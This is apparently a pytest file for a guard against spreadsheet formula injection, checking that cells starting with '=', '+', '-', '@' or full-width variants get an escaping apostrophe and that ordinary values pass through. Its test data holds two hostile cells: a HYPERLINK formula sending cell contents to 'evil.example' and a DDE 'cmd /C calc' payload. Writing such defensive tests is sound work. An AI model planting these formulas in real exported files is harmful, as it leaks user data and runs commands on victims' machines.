"""Cells that a spreadsheet would run."""

import pytest
from connector_agent.connectors.files.formulas import marked, unmarked
from hypothesis import given
from hypothesis import strategies as st


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tx",
        "＝1+1",
        "＋1＋1",
        "－1",
        "＠SUM",
        "'=1+1",
        "+49-170-123",
        "-" + "9" * 200,
    ],
)
def test_what_would_be_run_is_marked(cell: str) -> None:
    assert marked(cell) == f"'{cell}"
    assert unmarked(f"'{cell}") == cell


@pytest.mark.parametrize(
    "cell",
    [
        *("-5", "+5", "-1,234.56", "-1.234,56", "-1 234,5", "-.5", "-1e-7", "-5%", "- ", "--"),
        *("", "Ada", "O'Neil", "a=b", "ada@example.com", "+49 170 1234567", "'quoted'", "-"),
        *(-5, -1.5, None, True),
    ],
)
def test_what_runs_nothing_stays(cell: str | float | None) -> None:
    assert marked(cell) == cell
    if isinstance(cell, str):
        assert unmarked(cell) == cell


@given(st.text() | st.text(alphabet="'=+-@ \t\r1a＝"))
def test_every_text_comes_back(text: str) -> None:
    assert unmarked(str(marked(text))) == text


def test_long_cells() -> None:
    assert marked("-1" + " " * 1_000_000 + "x").startswith("'")
    for cell in ("'" * 1_000_000, " " * 1_000_000 + "x"):
        assert marked(cell) == cell
